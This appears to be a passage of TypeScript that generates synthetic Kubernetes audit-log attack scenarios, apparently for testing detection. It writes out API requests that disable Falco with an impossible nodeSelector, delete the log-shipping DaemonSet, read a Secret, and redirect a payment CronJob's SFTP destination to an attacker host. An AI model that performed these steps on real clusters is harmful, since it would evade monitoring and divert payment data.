    ['PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api?fieldManager=kubectl-set', true, SMP, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'app', image: 'registry.northbank.example/payments/payments-api:hotfix-4411' }] } } } })],
  ]), 5 * S);
  for (const e of out) if (e.attack === "insider pushes a change to production outside the freeze's approved window") e.signsIn = true;

  // 9. Impair defenses: a platform engineer's token scraped from the PAW's profile backup pauses
  // Falco (the standard trick: a nodeSelector no node has, so every Falco pod goes away), deletes
  // the audit-shipping DaemonSet, then reads a Secret.
  const pl = by('platform-3');
  const vpl = lastScoredOf(routine, pl.name, T(15), kubectl);
  add('Falco paused with an impossible nodeSelector and the log shipper deleted, then a Secret (platform token)', T(15.05), vpl.ip, vpl.ua, vpl.login, on([
    ['GET', '/apis/apps/v1/namespaces/falco/daemonsets/falco', false],
    ['PATCH', '/apis/apps/v1/namespaces/falco/daemonsets/falco', true, SMP, JSON.stringify({ spec: { template: { spec: { nodeSelector: { 'non-existing': 'true' } } } } })],
    ['DELETE', '/apis/apps/v1/namespaces/logging/daemonsets/fluent-bit', true],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-api-db', true],
  ]), 20 * S, pl);

  // 10. The evening before the settlement run: the night CronJob's SFTP destination changed (the
  // BACS payment file goes to the attacker's host), from a batch operator's VDI token at 21:30.
  const b2 = by('batch-2');
  const vb2 = lastScoredOf(routine, b2.name, T(14.9), kubectl);
  add("settlement CronJob's payout destination changed the evening before the run (batch operator's token)", T(21.5), VDI_NAT[2]!, KUBECTL_VDI, vb2.login, on([
    ['GET', '/apis/batch/v1/namespaces/settlement-prod/cronjobs/settlement-eod', false],
    ['PATCH', '/apis/batch/v1/namespaces/settlement-prod/cronjobs/settlement-eod', true, SMP, JSON.stringify({ spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'settle', env: [{ name: 'SFTP_HOST', value: 'sftp.bacs-clearing.net' }] }] } } } } } })],
  ]), 10 * S, b2);

  return out;
}
